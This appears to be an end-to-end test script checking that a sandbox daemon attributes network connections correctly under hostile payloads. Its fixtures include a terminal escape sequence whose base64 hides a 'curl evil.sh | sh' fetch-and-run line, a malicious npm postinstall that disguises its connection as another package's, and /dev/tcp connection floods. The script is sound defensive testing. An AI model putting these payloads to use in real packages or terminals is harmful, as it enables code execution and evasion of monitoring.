#!/bin/bash
# tests/e2e/attrib-hostile.sh — attribution attacked by its payload (doc/attribution.md):
# what the daemon reads from a sandbox's processes is the payload's, and so is how
# many of them there are. Each case is an attack that must not work:
#
#   * ten thousand sockets, then refused connections: the daemon stays responsive,
#     its CPU stays bounded, the refusals are not held up, and the new socket is
#     still found (the descriptor after the highest is tried first: one readlink,
#     not ten thousand);
#   * two thousand processes, then refused connections from new ones: the same;
#   * an environment as big as the kernel lets execve make it (100 MB asked; Linux
#     caps a new program's arguments and environment at 6 MiB): read 256 KiB of
#     it, the daemon's memory unchanged;
#   * escape sequences in comm, argv and the package name: never on a screen raw;
#   * a process that runs its own npm on a package.json of its making, to pass its
#     connection off as an innocent package's: the package it claims to be is named,
#     and so is the script that ran it ("via");
#   * a flood of refusals from many processes, to spend the worker's budget and then
#     connect unseen: what is made during the flood is still named.
#
# Inside the hermetic test network, as the test user, with the suite's own daemon.
set -u
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/lib/harness.sh"
. "$here/lib/testnet.sh"
harness_locate
[ "${BOXY_TESTNET_INSIDE:-}" = 1 ] || harness_as_test_user "$0" "$@"
testnet_enter "$0" "$@"
testnet_setup
tn_probe
for t in npm node python3 sqlite3; do
	command -v "$t" >/dev/null || harness_die "$t is not installed"
done

DB=$TN/state/boxy/sessions.db
last_id() { sqlite3 "$DB" 'SELECT id FROM sessions ORDER BY started_ms DESC LIMIT 1'; }
sql() { sqlite3 "$DB" "$1" 2>&1; }
# The daemon's pid (its record), CPU ticks (every thread) and peak memory.
daemon_pid() { sed -n 's/^pid //p' "$TN/state/boxy/daemon.lock" | head -1; }
cpu_ticks() { awk '{ print $14 + $15 }' "/proc/$1/stat"; }
hwm_kb() { awk '/^VmHWM/ { print $2 }' "/proc/$1/status"; }
give() {
	local c=$1
	shift
	mkdir -p "$TN/cases/$c" && for f in "$@"; do cp "$TN/$f" "$TN/cases/$c/"; done
	chmod -R a+rwX "$TN/cases/$c"
}
# responsive: `boxy daemon status` answers within a second, three times during an attack.
responsive() {
	local t0 t1 worst=0
	for _ in 1 2 3; do
		t0=$(date +%s%N)
		tn_boxy daemon status >/dev/null 2>&1 || { echo 99999; return; }
		t1=$(date +%s%N)
		[ $(((t1 - t0) / 1000000)) -gt "$worst" ] && worst=$(((t1 - t0) / 1000000))
		sleep 0.5
	done
	echo "$worst"
}

tn_boxy run --net none -- true >/dev/null 2>&1     # the daemon up
DPID=$(daemon_pid)
[ -n "$DPID" ] && [ -r "/proc/$DPID/stat" ] || harness_die "cannot find the daemon's pid"
TICK=$(getconf CLK_TCK)

## ---- ten thousand sockets ----------------------------------------------------------------------
cat >"$TN/sockets.py" <<'EOF'
import resource, socket, sys, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = min(hard, 10100)
resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
held = []
for i in range(want - 100):
    held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
print("held", len(held), flush=True)
t0 = time.time()
for i in range(40):
    try:
        socket.create_connection(("169.254.169.254", 90), timeout=3).close()
    except OSError:
        pass
print("refusals took %.2f s" % (time.time() - t0), flush=True)
time.sleep(1)
EOF
give sockets sockets.py
c0=$(cpu_ticks "$DPID")
w0=$(date +%s%N)
(run_case sockets --net public -- python3 sockets.py) &
bg=$!
sleep 2
worst=$(responsive)
wait "$bg"
C=$TN/cases/sockets
RC=0
w1=$(date +%s%N)
c1=$(cpu_ticks "$DPID")
ID=$(last_id)
held=$(sed -n 's/^held //p' "$C/out")
took=$(sed -n 's/^refusals took \([0-9.]*\) s/\1/p' "$C/out")
cpu_ms=$(((c1 - c0) * 1000 / TICK))
wall_ms=$(((w1 - w0) / 1000000))
# Counted rows (the store's aggregation) stand for many: sum(count).
named=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 90
	AND comm = 'python3'")
other=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 90
	AND pid IS NOT NULL AND pid <> 0 AND comm <> 'python3'")
total=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 90")
diag "sockets held: $held; 40 refusals took ${took}s; daemon CPU ${cpu_ms} ms in ${wall_ms} ms;" \
	"status answered within ${worst} ms at worst; $named of $total refusals named, $other as another's"
if [ "${held:-0}" -ge 5000 ] && [ "$total" = 40 ] && [ "$other" = 0 ] && [ "$worst" -lt 1000 ] &&
	awk -v t="${took:-99}" 'BEGIN { exit !(t < 15) }' && [ "$named" -ge 30 ] &&
	[ $((cpu_ms * 2)) -lt "$wall_ms" ]; then
	ok "10,000 sockets: the daemon answers, its CPU stays under half the time, refusals named"
else
	not_ok "10,000 sockets: the daemon answers, its CPU stays under half the time, refusals named"
	diag_file "$C/out"
fi

## ---- two thousand processes ----------------------------------------------------------------------
cat >"$TN/procs.sh" <<'EOF'
i=0
while [ $i -lt 2000 ]; do sleep 30 & i=$((i + 1)); done
echo started $i
for j in $(seq 1 20); do python3 -c 'import socket
try: socket.create_connection(("169.254.169.254", 91), timeout=3)
except OSError: pass'; done
echo done
kill $(jobs -p) 2>/dev/null
EOF
give procs procs.sh
c0=$(cpu_ticks "$DPID")
w0=$(date +%s%N)
(run_case procs --net public --pids 4096 -- sh procs.sh) &
bg=$!
sleep 3
worst=$(responsive)
wait "$bg"
C=$TN/cases/procs
w1=$(date +%s%N)
c1=$(cpu_ticks "$DPID")
ID=$(last_id)
cpu_ms=$(((c1 - c0) * 1000 / TICK))
wall_ms=$(((w1 - w0) / 1000000))
named=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 91
	AND comm = 'python3'")
other=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 91
	AND pid IS NOT NULL AND pid <> 0 AND comm <> 'python3'")
diag "2000 processes: daemon CPU ${cpu_ms} ms in ${wall_ms} ms; status within ${worst} ms;" \
	"$named of 20 named, $other as another's"
if grep -q 'started 2000' "$C/out" && grep -q '^done' "$C/out" && [ "$other" = 0 ] &&
	[ "$worst" -lt 1000 ] && [ $((cpu_ms * 2)) -lt "$wall_ms" ] && [ "$named" -ge 10 ]; then
	ok "2,000 processes: the daemon answers, its CPU stays bounded, nothing named as another's"
else
	not_ok "2,000 processes: the daemon answers, its CPU stays bounded, nothing named as another's"
	diag_file "$C/out"
	diag_file "$C/err"
fi

## ---- an environment of 100 MB, or as much as execve takes ----------------------------------------
cat >"$TN/bigenv.py" <<'EOF'
import os, resource, socket, sys
if len(sys.argv) > 1:
    print("env bytes", sum(len(k) + len(v) + 2 for k, v in os.environ.items()), flush=True)
    try:
        socket.create_connection(("169.254.169.254", 92), timeout=3)
    except OSError:
        pass
    sys.exit(0)
size = 100 << 20
resource.setrlimit(resource.RLIMIT_STACK, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
env = {"PAD%d" % i: "x" * (120 << 10) for i in range(size // (120 << 10))}
env["npm_package_name"] = "padded-liar"
while True:
    try:
        os.execve(sys.executable, [sys.executable, sys.argv[0], "child"], env)
    except OSError as e:
        print("execve:", e, "with", len(env), "variables", flush=True)
        for k in list(env)[: len(env) // 2]:
            if k.startswith("PAD"):
                del env[k]
        if len(env) < 10:
            raise
EOF
give bigenv bigenv.py
h0=$(hwm_kb "$DPID")
run_case bigenv --net public -- python3 bigenv.py
ID=$(last_id)
h1=$(hwm_kb "$DPID")
bytes=$(sed -n 's/^env bytes //p' "$C/out")
row=$(sql "SELECT comm || ' ' || coalesce(package, '-') FROM connections WHERE session_id = '$ID' AND port = 92")
diag "environment of $bytes bytes; the daemon's peak memory ${h0} kB -> ${h1} kB; row: $row"
if [ "${bytes:-0}" -ge $((2 << 20)) ] && [ $((h1 - h0)) -lt 20000 ] &&
	{ [ "$row" = "python3 -" ] || [ "$row" = "python3 padded-liar" ]; }; then
	ok "an environment of ${bytes} bytes: read in part, the daemon's memory unchanged, named"
else
	fail_case "an environment of many megabytes: read in part, the daemon's memory unchanged, named"
fi

## ---- escape sequences in comm, argv and the package name -------------------------------------------
cat >"$TN/escape.py" <<'EOF'
import ctypes, os, socket, sys
if len(sys.argv) > 1:
    ctypes.CDLL(None).prctl(15, b"\x1b]0;pwned\x07", 0, 0, 0)       # PR_SET_NAME
    try:
        socket.create_connection(("169.254.169.254", 93), timeout=3)
    except OSError:
        pass
    sys.exit(0)
env = dict(os.environ, npm_package_name="\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07x",
           npm_lifecycle_event="\x1b[2Jpostinstall")
os.execve(sys.executable, [sys.executable, sys.argv[0], "\x1b[31mred\x1b[0m"], env)
EOF
give escape escape.py
run_case escape --net public -- python3 escape.py
ID=$(last_id)
show=$(tn_boxy show "$ID" 2>&1; tn_boxy show --events "$ID" 2>&1)
if ! grep -q $'\x1b' "$C/err" && ! grep -q $'\x1b' <<<"$show" && ! grep -q $'\x07' <<<"$show" &&
	grep -q '?\]0;pwned?' <<<"$show" && grep -F '"subject":"tcp://169.254.169.254:93"' "$C/audit" |
	grep -qF '"comm":"?]0;pwned?"'; then
	ok "escape sequences in comm, argv and the package name reach no screen raw"
else
	fail_case "escape sequences in comm, argv and the package name reach no screen raw"
	grep -n $'\x1b' "$C/err" <<<"$show" | od -c | head -5 | diag "$(cat)"
fi

## ---- passing itself off as an innocent package ------------------------------------------------------
# evil's postinstall writes a package.json naming "innocent" and runs npm on it, whose
# own postinstall makes the connection: the record names innocent — and, as "via",
# the evil script that ran that npm.
E=$TN/pkg/evil
mkdir -p "$E"
cat >"$E/package.json" <<'EOF'
{"name": "evil-pkg", "version": "6.6.6", "scripts": {"postinstall": "node launder.js"}}
EOF
cat >"$E/launder.js" <<'EOF'
const fs = require('fs'), cp = require('child_process');
fs.mkdirSync('/tmp/innocent', {recursive: true});
fs.writeFileSync('/tmp/innocent/package.json', JSON.stringify({name: 'innocent', version: '1.0.0',
  scripts: {postinstall: "node -e \"require('net').connect(94, '169.254.169.254').on('error', () => {})\""}}));
cp.spawnSync('npm', ['run', 'postinstall', '--prefix', '/tmp/innocent'], {stdio: 'inherit'});
EOF
chmod -R a+rwX "$TN/pkg"
(cd "$E" && tn_user npm pack --silent >/dev/null 2>&1)
W=$TN/cases/launder
mkdir -p "$W" && cp "$E/evil-pkg-6.6.6.tgz" "$W/" &&
	echo '{"name": "proj", "version": "1.0.0"}' >"$W/package.json" && chmod -R a+rwX "$W"
C=$W
(cd "$W" && tn_boxy run --profile node --audit-log "$W/audit" -- npm install --no-audit --no-fund \
	--offline ./evil-pkg-6.6.6.tgz >"$W/out" 2>"$W/err" </dev/null)
RC=$?
ID=$(last_id)
row=$(sql "SELECT package || '@' || package_version || ' ' || package_script || ' via ' ||
	coalesce(package_via, '-') || ' ' || package_claimed FROM connections
	WHERE session_id = '$ID' AND port = 94")
if [ "$row" = "innocent@1.0.0 postinstall via postinstall of evil-pkg@6.6.6 0" ] &&
	grep -qE ':94 .* by postinstall of innocent@1\.0\.0 via postinstall of evil-pkg@6\.6\.6' "$W/err"; then
	ok "a package's script that runs npm on a package of its own making is named as its via"
else
	fail_case "a package's script that runs npm on a package of its own making is named as its via" \
		"row: $row"
fi

## ---- flooding first, to act unseen -------------------------------------------------------------
# Sixteen shells dial a refused address as fast as they can for 8 s; three seconds in, a
# python3 makes five refused connections. When the worker's CPU budget ran out its
# questions were answered "unknown" at once, and a socket table read cost 2.5 ms of kernel
# time each: the flood spent the budget in a second or two, and the python3 went unnamed.
# Now sockets are found by sock_diag (microseconds) and past the budget the questions
# wait, newest first: the python3's connections are named.
cat >"$TN/blind.sh" <<'EOF'
for k in $(seq 1 16); do
	(end=$((SECONDS + 8)); n=0
	while [ $SECONDS -lt $end ]; do : 3<>/dev/tcp/169.254.169.254/80; n=$((n + 1)); done 2>/dev/null
	echo flood $n) &
done
sleep 3
for j in 1 2 3 4 5; do
	python3 -c 'import socket
try: socket.create_connection(("169.254.169.254", 95), timeout=3)
except OSError: pass'
	sleep 0.3
done
wait
echo done
EOF
give blind blind.sh
c0=$(cpu_ticks "$DPID")
w0=$(date +%s%N)
run_case blind --net public -- bash blind.sh
w1=$(date +%s%N)
c1=$(cpu_ticks "$DPID")
ID=$(last_id)
cpu_ms=$(((c1 - c0) * 1000 / TICK))
wall_ms=$(((w1 - w0) / 1000000))
flood=$(awk '/^flood / { n += $2 } END { print n + 0 }' "$C/out")
named=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 95
	AND comm = 'python3'")
other=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID' AND port = 95
	AND pid IS NOT NULL AND pid <> 0 AND comm <> 'python3'")
flood_named=$(sql "SELECT coalesce(sum(count), 0) FROM connections WHERE session_id = '$ID'
	AND port = 80 AND pid > 0")
diag "flood: $flood refusals from 16 shells ($flood_named named); daemon CPU ${cpu_ms} ms in" \
	"${wall_ms} ms; python3's 5: $named named, $other as another's"
if grep -q '^done' "$C/out" && [ "$flood" -gt 1000 ] && [ "$named" -ge 4 ] && [ "$other" = 0 ] &&
	[ $((cpu_ms * 2)) -lt "$wall_ms" ]; then
	ok "a flood of refusals from 16 processes does not hide the connections made during it"
else
	fail_case "a flood of refusals from 16 processes does not hide the connections made during it"
fi

done_testing
